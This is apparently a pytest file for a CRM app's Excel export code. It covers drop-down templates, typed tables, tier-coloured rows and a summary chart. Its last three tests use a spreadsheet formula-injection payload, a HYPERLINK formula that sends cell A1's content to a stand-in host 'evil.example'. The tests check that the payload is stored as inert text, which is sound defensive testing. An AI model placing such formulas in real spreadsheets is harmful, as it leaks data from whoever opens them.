import io
import zipfile
from datetime import date, datetime

import openpyxl

from trade_crm_tiering import exporting
from trade_crm_tiering.exporting import Summary, Table, TableColumn, TemplateColumn


def load(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_template_has_drop_downs_and_instructions():
    columns = [
        TemplateColumn("Customer Name", required=True, help="The company's name", example="Gulf Star LLC"),
        TemplateColumn("Star Grade", choices=("0", "1", "2", "3", "4", "5")),
        TemplateColumn("Source", choices=("Trade Show", "B2B Platform")),
    ]
    data = exporting.write_template(
        "Customers", columns, "Instructions", ("Column", "Required", "What to enter", "Example"), notes=("How to",)
    )
    book = load(data)
    assert book.sheetnames == ["Customers", "Instructions", exporting.LIST_SHEET]
    sheet = book["Customers"]
    assert [cell.value for cell in sheet[1]] == ["Customer Name", "Star Grade", "Source"]
    assert sheet.max_row == 1, "no data rows: an untouched template imports nothing"
    assert sheet.freeze_panes == "A2"
    validations = {str(item.sqref): item.formula1 for item in sheet.data_validations.dataValidation}
    assert validations == {"B2:B100001": "Lists!$A$1:$A$6", "C2:C100001": "Lists!$B$1:$B$2"}
    assert book[exporting.LIST_SHEET].sheet_state == "hidden"
    help_rows = list(book["Instructions"].iter_rows(values_only=True))
    assert help_rows[0][0] == "How to"
    assert ("Customer Name", "✔", "The company's name", "Gulf Star LLC") in help_rows
    assert ("Source", None, "Trade Show, B2B Platform", None) in help_rows


def test_tables_are_typed_frozen_and_filtered():
    table = Table(
        "Contacts",
        [TableColumn("Name"), TableColumn("Amount", "money"), TableColumn("Since", "date"), TableColumn("N", "int")],
        [["Omar", 12.5, date(2020, 1, 2), 3], ["Jonas", None, None, 0]],
    )
    sheet = load(exporting.write_tables([table]))["Contacts"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Name", "Amount", "Since", "N"),
        ("Omar", 12.5, datetime(2020, 1, 2), 3),
        ("Jonas", None, None, 0),
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"


def test_classification_rows_in_tier_colours_and_a_summary_with_a_chart():
    table = Table(
        "Classification",
        [TableColumn("Customer"), TableColumn("Star Grade", "int"), TableColumn("Annual Amount", "money")],
        [["Gulf Star", 5, 2_600_000.0], ["Small Co", 0, 0.0], ["Mid Co", 2, None]],
        color_by=(0, {"Gulf Star": 10, "Small Co": 0, 'Mid "Co"': 2}),
    )
    summary = Summary(
        "Summary",
        "Grade distribution",
        ("Grade", "Customers", "Share", "Annual Amount", "Tier", "Total"),
        [("5 stars", 1, 2_600_000.0), ("2 stars", 1, 0.0), ("0 stars", 1, 0.0)],
        tiers=[("A Core", 1, 2_600_000.0, 10), ("D Developing", 2, 0.0, 0)],
    )
    data_bytes = exporting.write_classification(table, summary)
    book = load(data_bytes)
    assert book.sheetnames == ["Classification", "Summary"]
    data = book["Classification"]
    rules = [
        (str(ranges.sqref), rule.formula[0], rule.dxf.fill.bgColor.rgb)
        for ranges in data.conditional_formatting
        for rule in ranges.rules
    ]
    assert rules == [
        ("A2:C4", '$A2="Gulf Star"', "FFD5EFD9"),
        ("A2:C4", '$A2="Mid ""Co"""', "FFFDE5CC"),
    ], "whole rows in the tier's tint; no rule for a tier without colour"
    assert data.freeze_panes == "A2" and data.auto_filter.ref == "A1:C4"
    rows = list(book["Summary"].iter_rows(values_only=True))
    assert rows[2][:4] == ("Grade", "Customers", "Share", "Annual Amount")
    assert rows[3][:4] == ("5 stars", 1, 1 / 3, 2_600_000.0)
    assert rows[6][:4] == ("Total", 3, 1, 2_600_000.0)
    assert rows[9][:2] == ("A Core", 1)
    with zipfile.ZipFile(io.BytesIO(data_bytes)) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode()
    assert "Summary!$B$4:$B$6" in chart and "Summary!$A$4:$A$6" in chart


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _formula_cells(data):
    """The cells of every sheet that hold a formula (an ``<f>`` element), by sheet file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def _strings(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        cell.value: cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_text_that_looks_like_a_formula_is_written_as_text_in_tables():
    table = Table("Contacts", [TableColumn("Name"), TableColumn("Note")], [[FORMULA, "+1-2"], ["@SUM(A1)", "-3"]])
    data = exporting.write_tables([table])
    assert set(_formula_cells(data).values()) == {0}
    strings = _strings(data)
    assert strings[FORMULA] == "s"
    assert strings["@SUM(A1)"] == "s"


def test_text_that_looks_like_a_formula_is_written_as_text_in_the_template():
    columns = [TemplateColumn("Customer Name", help=FORMULA, example="=1+1", choices=("=2+2", "B"))]
    data = exporting.write_template("Customers", columns, "Instructions", ("Column", "R", "W", "E"), notes=(FORMULA,))
    assert set(_formula_cells(data).values()) == {0}
    strings = _strings(data)
    assert strings[FORMULA] == "s"
    assert strings["=1+1"] == "s"
    assert strings["=2+2"] == "s"


def test_text_that_looks_like_a_formula_is_written_as_text_in_the_classification():
    table = Table("Classification", [TableColumn("Customer"), TableColumn("Stars", "int")], [[FORMULA, 5]])
    labels = ("Grade", "Customers", "Share", "Annual Amount", "Tier", "Total")
    summary = Summary("Summary", "Grade distribution", labels, [(FORMULA, 1, 0.0)])
    data = exporting.write_classification(table, summary)
    assert _formula_cells(data)["xl/worksheets/sheet1.xml"] == 0
    assert _strings(data)[FORMULA] == "s"
